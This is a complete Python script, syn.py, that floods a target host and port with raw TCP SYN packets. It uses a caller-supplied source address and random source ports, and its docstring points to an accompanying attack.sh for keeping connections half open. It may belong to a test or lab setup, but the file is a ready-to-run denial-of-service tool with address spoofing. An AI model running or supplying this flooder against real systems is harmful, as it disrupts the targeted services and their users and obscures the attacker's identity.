#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""syn.py SECONDS FROM TO PORT: SYNs to there, each from another port, as fast as they can be sent. Prints how many.

For connections that stay half open the pod's own kernel must not see the answers: see attack.sh.
"""
import random
import socket
import struct
import sys
import time

seconds, source, to, port = float(sys.argv[1]), socket.inet_aton(sys.argv[2]), sys.argv[3], int(sys.argv[4])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
OPTIONS = bytes.fromhex("020405b40402080a000000010000000001030307")


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def syn():
    header = struct.pack("!HHIIBBHHH", random.randint(1024, 65535), port, random.getrandbits(32), 0, 0xA0, 2, 64240, 0, 0)
    pseudo = source + socket.inet_aton(to) + struct.pack("!HH", 6, len(header) + len(OPTIONS))
    return header[:16] + struct.pack("!H", checksum(pseudo + header + OPTIONS)) + header[18:] + OPTIONS


packets = [syn() for _ in range(20000)]
sent, end = 0, time.monotonic() + seconds
while time.monotonic() < end:
    for _ in range(100):
        try:
            raw.sendto(packets[sent % len(packets)], (to, 0))
            sent += 1
        except OSError:
            time.sleep(0.001)
print("syn", sent)
